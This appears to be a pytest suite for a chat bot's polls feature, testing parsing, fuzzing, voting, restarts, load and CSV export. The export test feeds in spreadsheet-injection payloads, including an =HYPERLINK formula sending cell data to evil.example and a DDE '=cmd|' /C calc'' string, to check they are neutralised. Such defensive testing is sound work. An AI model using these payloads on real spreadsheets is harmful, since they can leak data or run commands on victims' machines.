"""Polls through the core, the console and fake platform adapters: creation, ballots, timers, restarts, load."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import logging
import os
import random
import re
import shlex
import signal
import subprocess
import sys
import time
import unicodedata
from pathlib import Path

import pytest

from bot.core.contract import Adapter
from bot.core.core import Core
from bot.core.records import Action, Invocation, Member, MessageRef, Place, Reply, Role
from bot.features.polls import Polls
from bot.features.polls.render import poll_reply
from bot.features.polls.spec import PollError, PollSpec, clean_text, parse_line
from bot.runner import open_core
from tests.conftest import ROOT, ConsoleSession, make_config
from tests.fakes.slack_api import assert_nothing_pings, texts

HERE = Place("console", "general")
ALICE = Member("console:alice", "alice", Role.MEMBER)
BOB = Member("console:bob", "bob", Role.MEMBER)
MOD = Member("console:mia", "mia", Role.MODERATOR)


class RecordingAdapter(Adapter):
    """A platform that records what the core posts and edits, like a fake server would."""

    def __init__(self, platform: str) -> None:
        self.platform = platform
        self.posts: list[tuple[Place, Reply]] = []
        self.updates: list[tuple[MessageRef, Reply]] = []

    async def start(self) -> None: ...

    async def stop(self) -> None: ...

    async def post(self, place: Place, reply: Reply) -> MessageRef:
        self.posts.append((place, reply))
        return MessageRef(self.platform, place.channel, str(len(self.posts)))

    async def update(self, ref: MessageRef, reply: Reply) -> None:
        self.updates.append((ref, reply))


async def make_poll(core: Core, line: str, member: Member = ALICE, place: Place = HERE) -> tuple[Reply, int | None]:
    reply = await core.dispatch(Invocation("poll", member, place, {"question": line}))
    rows = await core.storage.fetchall("SELECT id FROM polls ORDER BY id DESC LIMIT 1")
    return reply, rows[0][0] if rows else None


async def press(core: Core, action_id: str, member: Member = ALICE) -> Reply:
    return await core.dispatch_action(Action(action_id, member, HERE))


@pytest.fixture
async def console_core(core: Core):
    console = ConsoleSession(core)
    return core, console


# -- creating ---------------------------------------------------------------------------------------------


async def test_one_line_poll_is_posted_with_vote_buttons(console_core):
    core, console = console_core
    out = await console.say('/poll "Would you try ketamine?" "Yes" "No" "Maybe" --multi 2 --public --closes 3d')
    assert "Poll #1: Would you try ketamine?" in out
    assert "[1] 1. Yes" in out and "[3] 3. Maybe" in out
    assert "public votes · pick up to 2 · 0 voters · closes" in out


@pytest.mark.parametrize("line, message", [
    ('"Q?" "Only one"', "at least two options"),
    ('"Q?" ' + " ".join(f'"o{i}"' for i in range(11)), "at most 10 options"),
    ('"Q?" "Same" "same"', "listed twice"),
    ('"Q?" "A" "   "', "empty"),
    ('"Q?" "A" "' + "x" * 81 + '"', "keep options under 80"),
    ('"Q?" "A" "B" --multi 3', "between 1 and 2"),
    ('"Q?" "A" "B" --closes soonish', "couldn't read the closing time"),
    ('"Q?" "A" "B" --frobnicate', "Unknown option --frobnicate"),
    ('"Q? "A" "B"', "every quote is closed"),
    ('"Q?" "A" "B" --post discord:1', "Only moderators can post"),
    ("--template nope", "no poll template 'nope'"),
])
async def test_bad_polls_get_a_clear_error_and_create_nothing(core: Core, line: str, message: str):
    reply, poll_id = await make_poll(core, line)
    assert message in reply.text and reply.ephemeral
    assert poll_id is None


@pytest.mark.parametrize("line, pointed", [
    ('Best day? "Mon" "Tue', 'character 17 ("Tue)'),  # unquoted question: used to say "needs two options"
    ('Q? --multi 2 "A" "B', 'character 18 ("B)'),
    ('"Q?" "A" "B', 'character 10 ("B)'),
    ('“Q?” “A” “B', "character 10 (“B)"),  # phones' curly quotes
    ('"Q?" "A" "B" "' + "x" * 40, 'character 14 ("xxxxxxxxxxxxxxxxxxx…)'),
    ('"Q?" Don\'t "B"', "character 9 ('t \"B\")"),  # in the one-line form an apostrophe opens a quote
])
async def test_an_unclosed_quote_is_pointed_at(core: Core, line: str, pointed: str):
    reply, poll_id = await make_poll(core, line, MOD)
    assert f"the quote at {pointed} is never closed" in reply.text and "every quote is closed" in reply.text
    assert "two options" not in reply.text and poll_id is None


def test_fuzzed_one_line_polls_only_ever_raise_poll_errors():
    rng = random.Random(12)
    pieces = ['"', "'", "\\", " ", "“", "”", "‘", "’", "Q?", "A", "b c", "--multi", "2", "²", "9" * 5000, "--closes",
              "2h", "--post", "x:1", "--template", "--public", "--", "#", "\u0301" * 50, "\x00", "\u202e", "=1+1"]
    for _ in range(3000):
        line = "".join(rng.choice(pieces) for _ in range(rng.randrange(1, 14)))
        try:
            parse_line(line, now=1_700_000_000.0)
        except PollError as exc:
            try:
                shlex.split(line.replace("“", '"').replace("”", '"').replace("‘", "'").replace("’", "'"))
            except ValueError as shlex_error:
                # shlex refuses the line: so must we, pointing at the open quote unless a backslash ends it.
                assert "never closed" in str(exc) or "escaped" in str(shlex_error), line
            else:
                assert "never closed" not in str(exc), line  # never a quote shlex itself reads as closed
    hostile = '"Q?" "' + '\\"' * 20_000 + "'" * 20_000
    started = time.perf_counter()
    with pytest.raises(PollError, match="never closed"):
        parse_line(hostile)
    assert time.perf_counter() - started < 0.5


def zalgo(text: str) -> str:
    """Every letter under a stack of 40 combining marks, as zalgo generators make it."""
    return "".join(c + "\u0301\u0336\u0317\u0489" * 10 for c in text)


async def test_zalgo_is_stripped_before_the_length_limit(core: Core):
    question = "Which day works best for the group call?"
    assert len(zalgo(question)) > 1500  # six times the 250-character limit
    reply, poll_id = await make_poll(core, f'"{zalgo(question)}" "{zalgo("Monday")}" "Tuesday"', MOD)
    assert reply.text.startswith("Poll #"), reply.text
    poll = await core.get(Polls).get(poll_id)
    assert len(poll.question) <= 250
    letters = [c for c in unicodedata.normalize("NFD", poll.question) if unicodedata.category(c)[0] != "M"]
    assert "".join(letters) == question
    assert re.search(r"[\u0300-\u036f\u0489]{4}", poll.question + "".join(poll.options)) is None  # no stacks left
    only_marks, newest = await make_poll(core, '"Q?" "A" "' + "\u0301" * 200 + '"', MOD)
    assert "empty" in only_marks.text and newest == poll_id  # nothing created


@pytest.mark.parametrize("text", ["กี่วันดี", "क्या आप आएँगे?", "Tiếng Việt", "שָׁלוֹם", "བསྒྲུབས", "مُحَمَّد", "1️⃣ ❤️"])
def test_marks_that_scripts_need_are_kept(text: str):
    assert clean_text(text) == unicodedata.normalize("NFKC", text)


HUGE = "9" * 400
GIANT = "9" * 5000  # more digits than int() will convert


@pytest.mark.parametrize("name, args, answer", [
    ("poll-results", {"poll_id": HUGE}, "Which poll?"),
    ("poll-results", {"poll_id": "#" + GIANT}, "Which poll?"),
    ("poll-results", {"poll_id": "9223372036854775808"}, "Which poll?"),  # 2**63: past SQLite's integers
    ("poll-results", {"poll_id": "999999999999999999"}, "There is no poll #999999999999999999."),
    ("poll-results", {"poll_id": "²"}, "Which poll?"),
    ("poll-close", {"poll_id": GIANT}, "Which poll?"),
    ("poll", {"question": "results " + GIANT}, "Which poll?"),
    ("poll", {"question": "close #" + HUGE}, "Which poll?"),
    ("poll", {"question": '"Q?" "A" "B" --multi ' + GIANT}, "--multi needs a number"),
    ("poll", {"question": '"Q?" "A" "B" --multi ²'}, "--multi needs a number"),
    ("poll", {"question": "Q?", "choices": "A|B", "max_choices": GIANT}, "must be a number"),
    ("poll", {"question": "Q?", "choices": "A|B", "max_choices": "²"}, "must be a number"),
])
async def test_huge_numbers_get_an_answer_never_a_traceback(core: Core, caplog, name: str, args: dict[str, str],
                                                             answer: str):
    reply = await core.dispatch(Invocation(name, MOD, HERE, args))
    assert answer in reply.text and reply.ephemeral
    assert [r.getMessage() for r in caplog.records if r.levelno >= logging.ERROR] == []
    assert await core.storage.fetchall("SELECT id FROM polls") == []


@pytest.mark.parametrize("action_id", [f"poll:{HUGE}:vote:0", f"poll:{GIANT}:vote:0", f"poll:{HUGE}:results",
                                       f"poll:{GIANT}:close", f"poll:1:vote:{HUGE}", f"poll:1:vote:{GIANT}",
                                       "poll:1:vote:²", "poll:9223372036854775808:vote:0"])
async def test_crafted_buttons_with_huge_numbers_are_refused_politely(core: Core, caplog, action_id: str):
    await make_poll(core, '"Q?" "A" "B"', MOD)
    reply = await press(core, action_id, BOB)
    assert reply.text == "That button is not valid any more." and reply.ephemeral
    assert [r.getMessage() for r in caplog.records if r.levelno >= logging.ERROR] == []
    poll = await core.get(Polls).get(1)
    assert poll.is_open and (await core.get(Polls).tally(poll)).total == 0


async def test_mentions_and_markup_stay_plain_text_on_slack(core: Core):
    from bot.adapters.slack import render

    await make_poll(core, '"<!channel> *vote* now" "@everyone" "<@U123> & <!here>"')
    poll = await core.get(Polls).get(1)
    rendered = render(poll_reply(poll, await core.get(Polls).tally(poll)))
    # Slack parses mentions and formatting only in mrkdwn objects; plain_text shows exactly what was typed.
    assert "<!channel> *vote* now" in json.dumps(rendered.blocks)
    assert_nothing_pings(rendered.text, rendered.blocks)
    assert not any("*vote*" in text for text in texts(rendered.blocks, "mrkdwn"))
    assert "<!channel>" not in rendered.text and "&lt;!channel&gt;" in rendered.text


async def test_form_and_structured_options(core: Core):
    args = {"question": "Which route?", "choices": "IV\nNasal spray\nTablets", "max_choices": "2",
            "flags": "public hidden", "closes": "2h"}
    reply = await core.dispatch(Invocation("poll", ALICE, HERE, args))
    assert reply.text.startswith("Poll #1 is up")
    poll = await core.get(Polls).get(1)
    assert poll.options == ("IV", "Nasal spray", "Tablets")
    assert poll.max_choices == 2 and not poll.anonymous and poll.hide_results and poll.closes_at
    discord_style = {"question": "Pick", "choices": "A | B", "voters": "public", "results": "always"}
    assert (await core.dispatch(Invocation("poll", ALICE, HERE, discord_style))).text.startswith("Poll #2")


async def test_template_from_the_article(core: Core):
    reply, poll_id = await make_poll(core, "--template would-you-try")
    poll = await core.get(Polls).get(poll_id)
    assert "would you try it" in poll.question and len(poll.options) == 4


# -- voting -----------------------------------------------------------------------------------------------


async def test_vote_change_and_withdraw_one_ballot(core: Core):
    await make_poll(core, '"Q?" "A" "B" "C"')
    assert "counted" in (await press(core, "poll:1:vote:0")).text
    assert "counted" in (await press(core, "poll:1:vote:2")).text  # changes the vote
    assert (await core.get(Polls).tally(await core.get(Polls).get(1))).counts == (0, 0, 1)
    assert "withdrawn" in (await press(core, "poll:1:vote:2")).text
    assert (await core.get(Polls).tally(await core.get(Polls).get(1))).counts == (0, 0, 0)


async def test_multiple_choice_up_to_n(core: Core):
    await make_poll(core, '"Q?" "A" "B" "C" --multi 2')
    await press(core, "poll:1:vote:0")
    await press(core, "poll:1:vote:1")
    reply = await press(core, "poll:1:vote:2")
    assert "up to 2" in reply.text
    assert await core.get(Polls).ballot(1, ALICE.id) == (0, 1)


async def test_closed_and_unknown_polls_refuse_votes_politely(core: Core):
    await make_poll(core, '"Q?" "A" "B"')
    await press(core, "poll:1:vote:0", BOB)
    assert "already closed" not in (await press(core, "poll:1:close")).text
    reply = await press(core, "poll:1:vote:1", BOB)
    assert "closed" in reply.text and reply.ephemeral
    assert await core.get(Polls).ballot(1, BOB.id) == (0,)
    assert "doesn't exist" in (await press(core, "poll:99:vote:0")).text
    assert "isn't part of this poll" in (await press(core, "poll:1:vote:7")).text
    assert "not valid" in (await press(core, "poll:x:vote")).text


async def test_only_creator_or_moderator_can_close(core: Core):
    await make_poll(core, '"Q?" "A" "B"')
    refused = await press(core, "poll:1:close", BOB)
    assert "Only the member who started" in refused.text
    assert (await core.get(Polls).get(1)).is_open
    assert "closed" in (await core.dispatch(Invocation("poll", MOD, HERE, {"question": "close 1"}))).text
    assert not (await core.get(Polls).get(1)).is_open
    assert "already closed" in (await press(core, "poll:1:close", MOD)).text
    audit = await core.storage.fetchall("SELECT actor, action FROM audit_log WHERE action = 'poll.close'")
    assert [tuple(r) for r in audit] == [(MOD.id, "poll.close")]


async def test_results_show_counts_percentages_bars_and_a_chart(core: Core):
    await make_poll(core, '"Q?" "A" "B" --public')
    await press(core, "poll:1:vote:0", ALICE)
    await press(core, "poll:1:vote:0", BOB)
    reply = await core.dispatch(Invocation("poll", ALICE, HERE, {"question": "results 1"}))
    assert "Your vote: A" in reply.text
    assert "2 votes (100%)" in reply.text and "█" in reply.text
    assert "alice, bob" in reply.text  # public poll lists voters
    assert reply.image is not None and reply.image.data.startswith(b"\x89PNG")


async def test_hidden_results_until_close(core: Core):
    await make_poll(core, '"Q?" "A" "B" --hide-results')
    await press(core, "poll:1:vote:1", BOB)
    reply = await press(core, "poll:1:results", ALICE)
    assert "hidden until the poll closes" in reply.text and "votes (" not in reply.text
    await press(core, "poll:1:close", ALICE)
    assert "1 vote (100%)" in (await press(core, "poll:1:results", ALICE)).text


# -- one poll, two platforms ------------------------------------------------------------------------------


async def test_moderator_posts_one_poll_to_discord_and_slack_with_one_tally(core: Core):
    discord, slack = RecordingAdapter("discord"), RecordingAdapter("slack")
    core.attach(discord)
    core.attach(slack)
    reply = await core.dispatch(Invocation("poll", MOD, HERE, {
        "question": '"Try ketamine?" "Yes" "No" --post discord:111,slack:C222'}))
    assert "they share one tally" in reply.text
    assert [p.channel for p, _ in discord.posts] == ["111"] and [p.channel for p, _ in slack.posts] == ["C222"]
    d_member = core.member("discord", "42", "dee")
    s_member = core.member("slack", "U42", "sam")
    await core.dispatch_action(Action("poll:1:vote:0", d_member, Place("discord", "111")))
    await core.dispatch_action(Action("poll:1:vote:0", s_member, Place("slack", "C222")))
    await core.dispatch_action(Action("poll:1:vote:1", d_member, Place("discord", "111")))  # changes, not adds
    await asyncio.sleep(0.05)
    for adapter in (discord, slack):
        last = adapter.updates[-1][1]
        assert "1 vote (50%)" in last.text and "2 voters" in last.footer
    await core.get(Polls).close(1, MOD.id)
    for adapter in (discord, slack):
        assert adapter.posts[-1][1].title.startswith("Poll #1 closed")
        assert adapter.posts[-1][1].image is not None


async def test_burst_of_votes_is_one_debounced_edit(tmp_path: Path):
    cfg = make_config(tmp_path)
    cfg.polls.update_debounce = 0.2
    core = await open_core(cfg)
    try:
        slack = RecordingAdapter("slack")
        core.attach(slack)
        await make_poll(core, '"Q?" "A" "B"', place=Place("slack", "C1"))
        for i in range(30):
            await core.dispatch_action(Action("poll:1:vote:0", core.member("slack", f"U{i}", f"u{i}"),
                                              Place("slack", "C1")))
        await asyncio.sleep(0.4)
        assert len(slack.updates) == 1
        assert "30 votes (100%)" in slack.updates[0][1].text
    finally:
        await core.close()


# -- restarts ---------------------------------------------------------------------------------------------


async def test_buttons_and_timers_survive_a_restart(tmp_path: Path):
    cfg = make_config(tmp_path)
    core = await open_core(cfg)
    slack = RecordingAdapter("slack")
    core.attach(slack)
    await core.start()
    await make_poll(core, '"Q?" "A" "B"', place=Place("slack", "C1"))
    timed = await core.get(Polls).create(PollSpec("Timed?", ("A", "B"), closes_at=time.time() + 0.3), ALICE)
    await core.get(Polls).publish(timed, [Place("slack", "C1")])
    await core.close()  # the bot stops before the timer fires
    await asyncio.sleep(0.5)

    core = await open_core(cfg)
    slack = RecordingAdapter("slack")
    core.attach(slack)
    await core.start()
    try:
        await asyncio.sleep(0.1)
        assert not (await core.get(Polls).get(timed.id)).is_open  # closed at start-up, since it was due
        assert any(r.title.startswith(f"Poll #{timed.id} closed") for _, r in slack.posts)
        reply = await core.dispatch_action(Action("poll:1:vote:1", core.member("slack", "U9", "x"),
                                                  Place("slack", "C1")))
        assert "counted" in reply.text  # an old button, pressed after the restart
    finally:
        await core.close()


# -- correctness under load -------------------------------------------------------------------------------


async def test_thousands_of_concurrent_votes_are_counted_exactly_once(core: Core):
    await make_poll(core, '"Q?" "A" "B" "C" "D"')
    rng = random.Random(3)
    members = [Member(f"discord:{i}", f"m{i}") for i in range(600)]
    presses: dict[str, list[int]] = {m.id: [rng.randrange(4) for _ in range(rng.randint(1, 5))] for m in members}

    async def member_session(member: Member) -> None:
        for choice in presses[member.id]:
            await core.dispatch_action(Action(f"poll:1:vote:{choice}", member, HERE))

    await asyncio.gather(*(member_session(m) for m in members))
    expected = [0, 0, 0, 0]
    for choices in presses.values():  # single choice: pressing the current option again withdraws
        current = None
        for c in choices:
            current = None if c == current else c
        if current is not None:
            expected[current] += 1
    tally = await core.get(Polls).tally(await core.get(Polls).get(1))
    assert list(tally.counts) == expected
    assert sum(len(c) for c in presses.values()) > 1500
    rows = await core.storage.fetchone("SELECT COUNT(*) FROM (SELECT voter FROM poll_votes GROUP BY voter "
                                       "HAVING COUNT(*) > 1)")
    assert rows[0] == 0


VOTER = """
import asyncio, sys
sys.path.insert(0, {root!r})
from tests.conftest import make_config
from pathlib import Path
from bot.core.core import Core
from bot.runner import open_core
from bot.core.records import Action, Member, Place
async def main():
    core = await open_core(make_config(Path({tmp!r})))
    n = 0
    while True:
        reply = await core.dispatch_action(Action("poll:1:vote:0", Member(f"slack:U{{n}}", "x"), Place("slack", "C")))
        assert "counted" in reply.text, reply.text
        print(n, flush=True)
        n += 1
asyncio.run(main())
"""


async def test_killed_process_loses_no_committed_vote(tmp_path: Path):
    core = await open_core(make_config(tmp_path))
    await make_poll(core, '"Q?" "A" "B"')
    await core.close()
    proc = subprocess.Popen([sys.executable, "-c", VOTER.format(root=str(ROOT), tmp=str(tmp_path))],
                            stdout=subprocess.PIPE, text=True, cwd=ROOT)
    acknowledged = -1
    deadline = time.time() + 30
    while acknowledged < 300 and time.time() < deadline:
        line = proc.stdout.readline()
        if not line:
            break
        acknowledged = int(line)
    os.kill(proc.pid, signal.SIGKILL)
    proc.wait()
    assert acknowledged >= 300
    core = await open_core(make_config(tmp_path))
    try:
        assert await core.storage.integrity_check() == "ok"
        tally = await core.get(Polls).tally(await core.get(Polls).get(1))
        assert tally.counts[0] >= acknowledged + 1  # every vote reported as counted is still there
    finally:
        await core.close()


def test_export_csv_from_the_cli(tmp_path: Path):
    async def setup() -> None:
        core = await open_core(make_config(tmp_path))
        await make_poll(core, '"Q?" "A" "B" --public')
        await press(core, "poll:1:vote:1", BOB)
        await core.close()

    asyncio.run(setup())
    config = tmp_path / "c.yaml"
    config.write_text(f"storage:\n  path: {tmp_path / 'bot.db'}\nfaq:\n  path: {ROOT / 'faq'}\n")
    result = subprocess.run([sys.executable, "-m", "bot", "poll", "export", "1", "--csv", "--config", str(config)],
                            capture_output=True, text=True, cwd=ROOT, timeout=60)
    assert result.returncode == 0, result.stderr
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert [(r["option"], r["votes"], r["percent"], r["voters"]) for r in rows] == [
        ("A", "0", "0.0", ""), ("B", "1", "100.0", "bob")]
    missing = subprocess.run([sys.executable, "-m", "bot", "poll", "export", "9", "--config", str(config)],
                             capture_output=True, text=True, cwd=ROOT, timeout=60)
    assert missing.returncode == 1 and "no poll #9" in missing.stderr


async def test_csv_export_never_hands_a_spreadsheet_a_formula(core: Core):
    options = ["+1", "-1 day", "@SUM(A1:A9)", "=1+1", "fine"]
    args = {"question": '=HYPERLINK("https://evil.example/?q="&A1,"Click for results")', "choices": "\n".join(options),
            "voters": "public"}
    assert (await core.dispatch(Invocation("poll", MOD, HERE, args))).text.startswith("Poll #1")
    voters = ["=cmd|' /C calc'!A0", "\tTab", "\rCR", "@x", 'bob;=1+1,"x"']
    for position, name in enumerate(voters):
        await press(core, f"poll:1:vote:{position}", Member(f"console:v{position}", name, Role.MEMBER))
    await press(core, "poll:1:vote:4", Member("console:ann", "ann", Role.MEMBER))
    exported = await core.get(Polls).export_csv(1)
    # Every cell quoted, inner quotes doubled: no ';' or ',' a member typed can start a cell of its own.
    assert re.fullmatch(r'("(?:[^"]|"")*"(?:,"(?:[^"]|"")*")*\r\n)+', exported)
    rows = list(csv.DictReader(io.StringIO(exported, newline="")))
    assert [r["option"] for r in rows] == ["'+1", "'-1 day", "'@SUM(A1:A9)", "'=1+1", "fine"]
    assert {r["question"] for r in rows} == {"'" + args["question"]}
    assert [r["voters"] for r in rows] == ["'=cmd|' /C calc'!A0", "'\tTab", "'\rCR", "'@x", 'bob;=1+1,"x"; ann']
    assert [r["votes"] for r in rows] == ["1", "1", "1", "1", "2"]
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
